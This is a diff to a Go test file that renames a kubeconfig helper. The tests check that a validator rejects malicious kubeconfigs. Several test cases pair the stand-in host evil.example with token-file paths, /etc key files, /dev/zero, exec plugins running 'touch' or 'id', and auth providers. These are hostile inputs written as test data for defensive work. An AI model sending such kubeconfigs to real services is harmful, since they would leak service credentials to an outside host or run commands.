@@ -16,7 +16,7 @@ import (
 )
 
 // kubeconfig returns a kubeconfig of a user with these credentials.
-func kubeconfig(server, cluster, user string) string {
+func kubeconfigOf(server, cluster, user string) string {
 	return "apiVersion: v1\nkind: Config\ncurrent-context: x\n" +
 		"clusters: [{name: c, cluster: {server: '" + server + "'" + cluster + "}}]\n" +
 		"contexts: [{name: x, context: {cluster: c, user: u}}]\n" +
@@ -36,15 +36,15 @@ func TestMaliciousKubeconfig(t *testing.T) {
 		reason, kubeconfig string
 		want               error
 	}{
-		"Good":    {reason: "everything is in the kubeconfig", kubeconfig: kubeconfig("https://10.0.0.5:6443", "", "token: t")},
-		"Token":   {reason: "a path to the function's token", kubeconfig: kubeconfig("https://evil.example", "", "tokenFile: "+token), want: ErrReachesHere},
-		"Both":    {reason: "a token in addition to a path", kubeconfig: kubeconfig("https://evil.example", "", "token: t, tokenFile: "+token), want: ErrReachesHere},
-		"Endless": {reason: "a file without an end", kubeconfig: kubeconfig("https://evil.example", "", "tokenFile: /dev/zero"), want: ErrReachesHere},
-		"Program": {reason: "a program", kubeconfig: kubeconfig("https://evil.example", "", "exec: {apiVersion: client.authentication.k8s.io/v1, command: touch, args: ["+ran+"], interactiveMode: Never}"), want: ErrReachesHere},
-		"Plugin":  {reason: "a plug-in", kubeconfig: kubeconfig("https://evil.example", "", "auth-provider: {name: oidc}"), want: ErrReachesHere},
-		"Key":     {reason: "a path to the function's key", kubeconfig: kubeconfig("https://evil.example", "", "client-certificate: /etc/tls.crt, client-key: /etc/tls.key"), want: ErrReachesHere},
-		"CA":      {reason: "a file again", kubeconfig: kubeconfig("https://evil.example", ", certificate-authority: "+token, "token: t"), want: ErrReachesHere},
-		"Another": {reason: "the path belongs to another user of the kubeconfig", kubeconfig: strings.Replace(kubeconfig("https://a", "", "token: t"), "users: [", "users: [{name: v, user: {tokenFile: /x}}, ", 1), want: ErrReachesHere},
+		"Good":    {reason: "everything is in the kubeconfig", kubeconfig: kubeconfigOf("https://10.0.0.5:6443", "", "token: t")},
+		"Token":   {reason: "a path to the function's token", kubeconfig: kubeconfigOf("https://evil.example", "", "tokenFile: "+token), want: ErrReachesHere},
+		"Both":    {reason: "a token in addition to a path", kubeconfig: kubeconfigOf("https://evil.example", "", "token: t, tokenFile: "+token), want: ErrReachesHere},
+		"Endless": {reason: "a file without an end", kubeconfig: kubeconfigOf("https://evil.example", "", "tokenFile: /dev/zero"), want: ErrReachesHere},
+		"Program": {reason: "a program", kubeconfig: kubeconfigOf("https://evil.example", "", "exec: {apiVersion: client.authentication.k8s.io/v1, command: touch, args: ["+ran+"], interactiveMode: Never}"), want: ErrReachesHere},
+		"Plugin":  {reason: "a plug-in", kubeconfig: kubeconfigOf("https://evil.example", "", "auth-provider: {name: oidc}"), want: ErrReachesHere},
+		"Key":     {reason: "a path to the function's key", kubeconfig: kubeconfigOf("https://evil.example", "", "client-certificate: /etc/tls.crt, client-key: /etc/tls.key"), want: ErrReachesHere},
+		"CA":      {reason: "a file again", kubeconfig: kubeconfigOf("https://evil.example", ", certificate-authority: "+token, "token: t"), want: ErrReachesHere},
+		"Another": {reason: "the path belongs to another user of the kubeconfig", kubeconfig: strings.Replace(kubeconfigOf("https://a", "", "token: t"), "users: [", "users: [{name: v, user: {tokenFile: /x}}, ", 1), want: ErrReachesHere},
 		"Null":    {reason: "a user is null", kubeconfig: "users: [{name: u, user: null}]\nclusters: [null]", want: ErrNotKubeconfig},
 		"NoYAML":  {reason: "no document", kubeconfig: "{", want: ErrNotKubeconfig},
 		"Empty":   {reason: "no context", kubeconfig: "", want: ErrNotKubeconfig},
@@ -137,8 +137,8 @@ func TestReferencesStayInTheirNamespace(t *testing.T) {
 }
 
 func FuzzReadKubeconfig(f *testing.F) {
-	f.Add([]byte(kubeconfig("https://10.0.0.5:6443", "", "token: t")))
-	f.Add([]byte(kubeconfig("https://a", ", certificate-authority-data: AA==", "client-certificate-data: AA==, client-key-data: AA==")))
+	f.Add([]byte(kubeconfigOf("https://10.0.0.5:6443", "", "token: t")))
+	f.Add([]byte(kubeconfigOf("https://a", ", certificate-authority-data: AA==", "client-certificate-data: AA==, client-key-data: AA==")))
 	f.Add([]byte(`{"current-context":"x","users":[{"name":"u","user":{"exec":{"command":"id"}}}]}`))
 	f.Add([]byte(bomb()))
 	f.Fuzz(func(t *testing.T, data []byte) {
